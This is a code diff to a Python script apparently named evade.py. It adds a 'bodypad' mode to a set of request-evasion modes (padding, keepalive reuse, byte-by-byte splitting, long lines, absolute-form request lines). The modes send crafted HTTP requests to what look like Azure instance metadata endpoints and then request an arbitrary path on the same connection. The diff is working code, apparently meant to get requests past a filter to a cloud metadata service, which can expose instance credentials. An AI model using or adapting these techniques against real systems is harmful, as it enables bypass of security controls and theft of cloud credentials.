@@ -7,6 +7,8 @@ evade.py MODE ARGS...
                                and the request for PATH, in one write
   keepalive HOST PATH PAD      the padded request, its answer read, then PATH on
                                the same connection
+  bodypad HOST PATH SIZE       a POST with SIZE bytes of body, its answer read, then
+                               PATH on the same connection
   split HOST PATH              the request for PATH a byte a segment
   longline HOST PATH PAD       PATH with PAD bytes of a dummy parameter in front
   absolute HOST PATH           the request line in absolute form (http://HOST/PATH)
@@ -100,6 +102,17 @@ def main():
         host, path, pad = args
         sock = connect(host)
         sock.sendall(request(host, "/metadata/instance?api-version=2021-02-01", padding(pad)))
+        if not read_answers(sock, 1):
+            return False
+        sock.sendall(request(host, path))
+        return read_answers(sock, 1)
+    if mode == "bodypad":
+        host, path, size = args
+        sock = connect(host)
+        body = b"b" * int(size)
+        sock.sendall(f"POST /metadata/scheduledevents?api-version=2020-07-01 HTTP/1.1\r\n"
+                     f"Host: {host}\r\nMetadata: true\r\nContent-Length: {len(body)}\r\n\r\n"
+                     .encode() + body)
         if not read_answers(sock, 1):
             return False
         sock.sendall(request(host, path))
